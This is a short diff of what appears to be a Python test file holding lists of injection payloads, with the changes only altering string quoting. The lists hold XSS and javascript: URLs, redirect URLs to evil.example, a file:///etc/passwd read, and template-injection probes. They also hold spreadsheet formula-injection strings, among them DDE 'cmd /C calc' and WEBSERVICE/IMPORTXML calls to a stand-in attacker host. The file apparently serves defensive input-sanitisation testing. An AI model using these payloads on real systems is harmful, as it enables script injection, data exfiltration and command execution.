@@ -26,7 +26,7 @@ ADDRESSES = (
     "vbscript:pwned=1", "javascript&colon;pwned=1", "//evil.example/x", "https://evil.example/login", "http://evil.example@award.example/",
     "http://award.example.evil.example/", "http://award.example:x@evil.example/", "www.evil.example", "mailto:evil@evil.example?bcc=all@evil.example",
     "file:///etc/passwd", "[gagnez](https://evil.example)", "[x](javascript:pwned=1)", "![x](https://evil.example/x.png)",
-    "<https://evil.example>", "<a href='javascript:pwned=1'>x</a>", '<a href="https://evil.example">http://award.example</a>', "http://award.example/\"><script>pwned=1</script>",
+    "<https://evil.example>", "<a href='javascript:pwned=1'>x</a>", '<a href="https://evil.example">http://award.example</a>', 'http://award.example/"><script>pwned=1</script>',
 )  # fmt: skip
 TEMPLATES = (
     "{{1337*7331}}", "${1337*7331}", "#{1337*7331}", "<%= 1337*7331 %>", "{%print(1337*7331)%}", "{{''.__class__.__mro__}}",
@@ -35,7 +35,7 @@ TEMPLATES = (
 )  # fmt: skip
 FORMULAS = (
     "=1337*7331", "=cmd|' /C calc'!A0", "+1337*7331", "-1337*7331", "@SUM(1+1)", "\t=1337*7331", "\r=1337*7331", "\n=1337*7331",
-    " =1337*7331", '=HYPERLINK("https://evil.example","x")', "=WEBSERVICE(\"https://evil.example\")", "=IMPORTXML(\"https://evil.example\",\"//a\")",
+    " =1337*7331", '=HYPERLINK("https://evil.example","x")', '=WEBSERVICE("https://evil.example")', '=IMPORTXML("https://evil.example","//a")',
     "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@", "=", "+", "-", "＝1337*7331", "＋1337", "%0A=1337*7331", "\u200b=1337*7331", "\ufeff=1337*7331", "'=1337*7331",
 )  # fmt: skip
 MAILS = (
